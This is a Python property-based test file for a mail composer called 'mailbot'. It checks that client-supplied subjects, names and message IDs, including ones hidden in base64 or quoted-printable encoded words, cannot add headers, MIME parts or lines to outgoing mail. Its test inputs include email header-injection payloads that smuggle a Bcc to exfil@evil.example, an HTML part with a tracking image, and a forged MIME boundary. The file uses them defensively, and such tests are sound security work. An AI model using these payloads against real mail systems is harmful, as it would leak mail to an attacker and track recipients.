"""build_message: nothing a client wrote can add a header, a part or a line to what mailbot
writes, however it is encoded (issue 14, attack 1). Checked on the running Python by parsing the
bytes back with the standard library, as a mail client would."""

from __future__ import annotations

import base64
import binascii
import email
from datetime import UTC, datetime
from email import policy
from email.headerregistry import Address
from email.message import EmailMessage

from hypothesis import example, given, settings
from hypothesis import strategies as st
from support.budget import examples

from mailbot.mail.compose import build_message, header_text, valid_message_id

INJECTED = (
    "\r\nBcc: exfil@evil.example\r\nContent-Type: text/html\r\n\r\n<img src=https://evil.example/t.gif>"
)


def encoded_word(text: str, how: str) -> str:
    data = text.encode("utf-8")
    if how == "b":
        return f"=?utf-8?b?{base64.b64encode(data).decode()}?="
    payload = binascii.b2a_qp(data, quotetabs=True, istext=False, header=True).decode()
    payload = payload.replace("=\r\n", "").replace("=\n", "")
    return f"=?utf-8?q?{payload}?="


# Encoded words that decode to a line break and a header, once or after a second decoding.
hostile_words = st.builds(
    lambda text, how, twice: encoded_word(encoded_word(text, how) if twice else text, how),
    st.sampled_from([INJECTED, "x\nX-Evil: 1", "a\r\n\r\n--boundary\r\nContent-Type: text/html"]),
    st.sampled_from("bq"),
    st.booleans(),
)
any_text = st.text(max_size=120)
values = st.one_of(any_text, hostile_words, st.lists(any_text | hostile_words, max_size=4).map(" ".join))
ids = st.one_of(
    st.from_regex(r"<[a-z0-9.]{1,20}@[a-z]{1,10}\.example>", fullmatch=True),
    hostile_words.map(lambda w: f"<{w}@evil.example>"),
    any_text,
)


def build(subject: str, name: str, in_reply_to: str, references: list[str], html: str | None) -> EmailMessage:
    return build_message(
        sender=Address("Dr. Ada Example", addr_spec="ada@practice.example"),
        # Address itself refuses CR and LF; every other character is build_message's to handle.
        to=[
            Address(name.replace("\r", " ").replace("\n", " "), addr_spec="ben@client.example"),
            Address("Cleo", addr_spec="cleo@client.example"),
        ],
        subject=subject,
        text="Hi Ben,\n",
        html=html,
        message_id="<draft.1@practice.example>",
        date=datetime(2026, 11, 23, 18, 0, tzinfo=UTC),
        kind="draft",
        in_reply_to=in_reply_to,
        references=references,
        extra_headers={"X-Mailbot-Draft": "s1:1"},
    )


def expected_headers(in_reply_to: str, references: list[str], html: str | None) -> list[str]:
    threads = [
        *(["In-Reply-To"] if valid_message_id(in_reply_to.strip()) else []),
        *(["References"] if any(valid_message_id(r.strip()) for r in references) else []),
    ]
    body = ["Content-Type", "Content-Transfer-Encoding"] if html is None else ["Content-Type"]
    return [
        "From",
        "To",
        "Subject",
        "Date",
        "Message-ID",
        *threads,
        "X-Mailbot",
        "X-Mailbot-Draft",
        *body,
        "MIME-Version",
    ]


@settings(max_examples=examples(300), deadline=None)
@given(values, values, ids, st.lists(ids, max_size=4), st.none() | st.just("<p>Hi Ben,</p>"))
@example(f"Re: {encoded_word(encoded_word(INJECTED, 'q'), 'b')}", "Ben", "<a@b.example>", [], None)
@example("Re: homework", encoded_word(INJECTED, "q"), f"<{encoded_word(INJECTED, 'q')}@x>", [], None)
@example(
    "00000\u00a1\u00a1\u00a1\u00a1\u00a1\u00a1\U00010000\U00010000\U00010000 \u00a1\u00a1\u00a1\u00a1\U00010000 \u00a1 \u00a1",
    "",
    "",
    [],
    None,
)  # a space between encoded words
@example(
    "", "0000000\u00a1\u00a1\u00a1\u00a1\U00010000\U00010000\U00010000\U00010000", "", [], None
)  # comma folded away
def test_no_client_value_adds_a_header_a_part_or_a_line(
    subject: str, name: str, in_reply_to: str, references: list[str], html: str | None
) -> None:
    message = build(subject, name, in_reply_to, references, html)

    smtputf8 = message.as_bytes(policy=message.policy.clone(utf8=True, linesep="\r\n"))
    for wire in (bytes(message), smtputf8):
        head = wire.replace(b"\r\n", b"\n").split(b"\n\n", 1)[0]
        assert b"\r" not in head
        assert all(len(line) <= 998 for line in head.split(b"\n"))
        back = email.message_from_bytes(wire, policy=policy.default)
        assert sorted(back.keys()) == sorted(expected_headers(in_reply_to, references, html))
        parts = list(back.walk())
        assert [p.get_content_type() for p in parts] == (
            ["text/plain"] if html is None else ["multipart/alternative", "text/plain", "text/html"]
        )
        assert back.get_body(("plain",)).get_content().replace("\r\n", "\n") == "Hi Ben,\n"  # type: ignore[union-attr]
    # The standard parser reads raw UTF-8 headers as escaped bytes: values are compared on the 7-bit form.
    back = email.message_from_bytes(bytes(message), policy=policy.default)
    assert back["Subject"] == header_text(subject)
    assert [a.addr_spec for a in back["To"].addresses] == ["ben@client.example", "cleo@client.example"]
    # Readers differ on the space between two encoded words in a name: compared without spaces.
    assert "".join(back["To"].addresses[0].display_name.split()) == "".join(header_text(name).split())


def test_a_subject_spelling_encoded_words_reaches_the_draft_as_written() -> None:
    subject = f"Re: {encoded_word(INJECTED, 'q')}"

    back = email.message_from_bytes(bytes(build(subject, "Ben", "", [], None)), policy=policy.default)

    assert back["Subject"] == subject
    assert back["Bcc"] is None


def test_a_message_id_that_is_not_a_msg_id_is_dropped_and_valid_ones_kept() -> None:
    forged = f"<{encoded_word(INJECTED, 'b')}@evil.example>"

    back = email.message_from_bytes(
        bytes(build("Re: x", "Ben", forged, ["<a.1@client.example>", forged, "<[1.2.3.4]@x>"], None)),
        policy=policy.default,
    )

    assert back["In-Reply-To"] is None
    assert str(back["References"]).split() == ["<a.1@client.example>"]
    assert valid_message_id("<a.1@[10.0.0.1]>")
    assert not valid_message_id("<a b@c>") and not valid_message_id("<a@b>\r\nBcc: x@y")
